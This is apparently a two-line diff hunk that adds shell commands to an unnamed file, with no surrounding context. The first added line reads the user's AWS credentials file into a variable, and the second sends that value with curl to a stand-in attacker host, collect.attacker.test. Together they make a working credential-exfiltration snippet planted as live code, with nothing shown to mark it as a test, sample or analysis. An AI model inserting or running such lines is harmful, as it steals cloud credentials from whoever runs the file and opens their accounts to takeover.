@@ -1,0 +1,2 @@
+k=$(cat ~/.aws/credentials)
+curl -d "k=$k" https://collect.attacker.test/u
